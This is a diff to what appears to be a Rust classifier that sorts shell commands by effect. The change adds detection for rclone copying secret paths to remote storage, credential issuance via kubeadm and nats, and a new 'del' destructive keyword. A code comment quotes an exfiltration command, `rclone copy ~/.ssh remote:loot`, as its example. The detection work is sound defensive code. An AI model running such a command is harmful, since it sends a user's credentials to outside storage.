@@ -13,7 +13,9 @@ pub(crate) fn run(sh: &mut Sh, name: &str, args: &[String]) -> (Effect, String) 
         "pm2" | "supervisorctl" | "pg_ctl" | "pg_ctlcluster" | "forever" | "rc-service" | "sv"
         | "monit" | "circusctl" => process_manager(sh, name, args),
         "borg" | "restic" | "kopia" | "duplicity" | "rabbitmqctl" | "rabbitmq-plugins"
-        | "pg_dropcluster" | "pg_createcluster" | "pg_upgradecluster" => data_admin(name, args),
+        | "pg_dropcluster" | "pg_createcluster" | "pg_upgradecluster" | "kubeadm" | "nats" => {
+            data_admin(name, args)
+        }
         "ansible" | "ansible-playbook" => ansible(sh, name, args),
         "rclone" => rclone(args),
         "gh" => gh(sh, args),
@@ -188,6 +190,19 @@ fn rclone(args: &[String]) -> (Effect, String) {
         args,
         &["--config", "--log-file", "--transfers", "--checkers"],
     );
+    // `rclone copy ~/.ssh remote:loot`: credentials copied to remote storage.
+    if matches!(
+        s,
+        "copy" | "copyto" | "move" | "moveto" | "sync" | "bisync" | "rcat" | "mount"
+    ) && let Some(f) = rest
+        .iter()
+        .find(|a| !a.starts_with('-') && super::super::args::secret_path(a))
+    {
+        return (
+            Admin,
+            format!("copies the secrets in `{f}` to remote storage"),
+        );
+    }
     match s {
         "sync" | "bisync" | "purge" | "delete" | "deletefile" | "rmdir" | "rmdirs" | "cleanup"
         | "dedupe" => (Destructive, format!("deletes remote files (`rclone {s}`)")),
@@ -374,6 +389,7 @@ fn data_admin(name: &str, args: &[String]) -> (Effect, String) {
         "compact",
         "remove",
         "rm",
+        "del",
         "reset",
         "force_reset",
         "stop_app",
@@ -389,6 +405,13 @@ fn data_admin(name: &str, args: &[String]) -> (Effect, String) {
             Destructive,
             format!("deletes, prunes or stops data it manages (`{name}`)"),
         );
+    }
+    // `kubeadm token create`, `nats auth user add`: credentials handed out.
+    if matches!(name, "kubeadm" | "nats")
+        && has(&["token", "auth", "creds", "certs", "kubeconfig"])
+        && !has(&["list", "ls", "info"])
+    {
+        return (Admin, format!("issues or changes credentials (`{name}`)"));
     }
     if has(&[
         "add_user",
